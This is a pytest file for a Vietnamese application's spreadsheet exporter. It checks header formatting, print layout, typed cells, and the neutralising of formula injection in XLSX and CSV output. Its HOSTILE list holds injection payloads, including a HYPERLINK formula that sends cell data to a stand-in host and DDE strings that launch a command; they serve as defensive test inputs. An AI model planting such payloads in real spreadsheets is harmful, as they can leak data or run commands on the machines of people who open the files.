"""Spreadsheet exports: typed cells, bold frozen header, and no formula injection."""

from __future__ import annotations

import io
from datetime import date
from decimal import Decimal
from fractions import Fraction

import pytest
from openpyxl import load_workbook

from thidua.documents import Sheet, write_csv, write_xlsx
from thidua.documents.xlsx import neutralise

HOSTILE = (
    '=HYPERLINK("http://evil.invalid/?x="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
)


def _sheet(rows=None):
    return Sheet(
        title="Xếp hạng khối xã",
        headers=("Mã", "Đơn vị", "Tổng điểm", "Tỷ lệ", "Ngày báo cáo"),
        rows=rows
        or (
            ("TT-MOT-NGAN", "Thị trấn Một Ngàn", 141, Decimal("99.2"), date(2021, 6, 24)),
            ("X-TAN-HOA", "Xã Tân Hòa", 123, Fraction(197, 2), date(2021, 7, 5)),
            ("X-TRUONG-LONG-A", "Xã Trường Long A", -5, None, None),
        ),
    )


def _open(sheets):
    return load_workbook(io.BytesIO(write_xlsx(sheets)))


def test_the_header_row_is_bold_and_frozen_and_the_columns_are_sized():
    ws = _open([_sheet()])["Xếp hạng khối xã"]
    assert [c.value for c in ws[1]] == ["Mã", "Đơn vị", "Tổng điểm", "Tỷ lệ", "Ngày báo cáo"]
    assert all(c.font.bold for c in ws[1])
    assert ws.freeze_panes == "A2"
    assert ws.column_dimensions["B"].width >= len("Thị trấn Một Ngàn")


def test_a_sheet_prints_on_a4_every_column_on_the_page_width_with_the_header_on_every_page():
    narrow = _open([_sheet()])["Xếp hạng khối xã"]
    wide = _open([Sheet(title="Rộng", headers=tuple(f"Cột {i}" for i in range(12)), rows=((1,) * 12,),
                        widths=(12,) * 12)])["Rộng"]
    for ws in (narrow, wide):
        assert int(ws.page_setup.paperSize) == 9  # A4
        assert ws.sheet_properties.pageSetUpPr.fitToPage
        assert (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (1, 0)  # one page wide, as long as needed
        assert ws.print_title_rows == "$1:$1"
    assert narrow.page_setup.orientation == "portrait"
    assert wide.page_setup.orientation == "landscape"  # 144 characters of columns: the page on its side


def test_explicit_column_widths_are_kept():
    sheet = Sheet(title="A", headers=("x", "y"), rows=((1, 2),), widths=(12, 40))
    ws = _open([sheet])["A"]
    assert ws.column_dimensions["A"].width == 12
    assert ws.column_dimensions["B"].width == 40


def test_numbers_stay_numbers_and_dates_are_dates_shown_dd_mm_yyyy():
    ws = _open([_sheet()]).active
    assert ws["C2"].value == 141 and ws["C2"].data_type == "n"
    assert ws["C4"].value == -5 and ws["C4"].data_type == "n"
    assert ws["D2"].value == pytest.approx(99.2) and ws["D2"].data_type == "n"
    assert ws["D3"].value == pytest.approx(98.5)
    assert ws["E2"].is_date and ws["E2"].value.date() == date(2021, 6, 24)
    assert ws["E2"].number_format == "dd/mm/yyyy"
    assert ws["D4"].value is None and ws["E4"].value is None
    assert ws["B2"].value == "Thị trấn Một Ngàn"



def test_integers_keep_their_exact_value_and_show_thousands_separators():
    sheet = Sheet(title="Kinh phí", headers=("Nội dung", "Số lượng", "Thành tiền (đồng)", "Tỷ lệ", "Đạt"),
                  rows=(("Hạng Nhất", 1, 10_000_000, Decimal("99.2"), True), ("Trừ điểm", -25, -1_500_000, None, None)))
    ws = _open([sheet]).active
    assert ws["C2"].value == 10_000_000 and type(ws["C2"].value) is int and ws["C2"].data_type == "n"
    assert ws["C2"].number_format == "#,##0"  # Excel shows 10.000.000 (Vietnamese) or 10,000,000, not 10000000
    assert ws["B2"].number_format == ws["B3"].number_format == ws["C3"].number_format == "#,##0"
    assert ws["C3"].value == -1_500_000
    assert ws["D2"].number_format == "General"  # a rate keeps its decimals
    assert ws["E2"].value is True and ws["E2"].number_format == "General"


@pytest.mark.parametrize("hostile", HOSTILE)
def test_formula_like_names_come_back_as_inert_text(hostile):
    ws = _open([_sheet(rows=(("X", hostile, 1, 2, date(2021, 1, 1)),))]).active
    cell = ws["B2"]
    assert cell.data_type == "s"
    assert cell.value == "'" + hostile
    assert not str(cell.value).startswith(("=", "+", "-", "@"))


def test_a_hostile_header_or_sheet_title_is_neutralised_too():
    wb = _open([Sheet(title="=cmd[1]", headers=("=A1",), rows=(("ok",),))])
    ws = wb.worksheets[0]
    assert ws.title == "=cmd_1_"
    assert ws["A1"].value == "'=A1"


def test_sheet_titles_are_made_unique_and_short():
    wb = _open([Sheet(title="Khối phòng, ban, ngành huyện năm 2021", headers=("a",), rows=())] * 2)
    assert [len(t) <= 31 for t in wb.sheetnames] == [True, True]
    assert len(set(wb.sheetnames)) == 2


def test_invisible_characters_pasted_from_word_do_not_break_the_workbook():
    sheet = Sheet("Đề cử", ["Họ và tên"], [["Trần\x0bVăn\x01 Lợi"], ["=1+1\x00"]])
    ws = load_workbook(io.BytesIO(write_xlsx([sheet]))).active
    assert [ws.cell(row=r, column=1).value for r in (2, 3)] == ["Trần\nVăn Lợi", "'=1+1"]
    assert write_csv(sheet).decode("utf-8-sig").splitlines()[1:] == ['"Trần', 'Văn Lợi"', "'=1+1"]


def test_ordinary_text_is_left_alone():
    assert neutralise("Xã Tân Hòa") == "Xã Tân Hòa"
    assert neutralise("Lưu: VT, PNV. - 2021") == "Lưu: VT, PNV. - 2021"
    assert neutralise("") == ""


def test_the_csv_starts_with_a_bom_uses_crlf_and_guards_formulas():
    sheet = _sheet(rows=(("X", HOSTILE[0], 141, Decimal("99.2"), date(2021, 6, 8)),))
    data = write_csv(sheet)
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    lines = text.split("\r\n")
    assert lines[0] == "Mã,Đơn vị,Tổng điểm,Tỷ lệ,Ngày báo cáo"
    assert lines[1].startswith("X,\"'=HYPERLINK(")
    assert lines[1].endswith(",141,99.2,08/06/2021")


def test_rows_of_the_wrong_width_are_refused():
    with pytest.raises(ValueError, match="expected 2"):
        write_xlsx([Sheet(title="A", headers=("x", "y"), rows=((1,),))])
